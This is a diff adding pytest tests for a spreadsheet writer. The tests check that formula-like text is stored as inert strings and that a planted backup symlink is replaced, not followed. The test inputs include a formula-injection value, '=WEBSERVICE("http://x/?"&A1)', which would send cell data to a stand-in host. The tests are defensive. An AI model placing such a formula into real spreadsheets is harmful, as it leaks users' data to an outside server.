@@ -116,3 +116,33 @@ def test_workbook_changed_on_disk_during_an_action_is_not_overwritten(book: Path
     with pytest.raises(WorkbookLocked, match="changed on disk"):
         fb.save()
     assert _sha(book) == after_edit
+
+
+def test_text_is_stored_as_text_whatever_it_looks_like(book: Path) -> None:
+    """Formula-, error- and escape-like text is a string cell read back exactly; a control character becomes U+FFFD."""
+    from python_calamine import CalamineWorkbook
+
+    texts = ['=WEBSERVICE("http://x/?"&A1)', "=1", "#N/A", "#REF!", "_x0041_", "a\x01b\x1fc", " =1+1", "＝1+1",
+             "x" * 40_000]
+    fb = FileBook(book)
+    fb.write(SheetData(name="考核表", header=["=header"], rows=[[t] for t in texts]))
+    fb.save()
+    ws = openpyxl.load_workbook(book, keep_vba=True)["考核表"]
+    assert {c.data_type for row in ws.iter_rows() for c in row if c.value is not None} == {"s"}
+    read = [r[0] for r in CalamineWorkbook.from_path(str(book)).get_sheet_by_name("考核表").to_python()]
+    expected = ["=header", *texts[:5], "a\ufffdb\ufffdc", *texts[6:8], "x" * 32_767]
+    assert read == expected  # what Excel shows: "_x0041_" stays "_x0041_", long text cut to Excel's limit
+
+
+def test_backup_link_is_replaced_not_followed(book: Path, tmp_path: Path) -> None:
+    """A symbolic link planted at SalesBook.xlsm.bak is replaced by the backup; the file it pointed to is untouched."""
+    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
+    outside.write_text("keep")
+    backup = book.with_name(book.name + ".bak")
+    backup.symlink_to(outside)
+    before = _sha(book)
+    fb = FileBook(book)
+    fb.write(SheetData(name="考核表", header=["x"], rows=[[1]]))
+    fb.save()
+    assert outside.read_text() == "keep"
+    assert not backup.is_symlink() and _sha(backup) == before
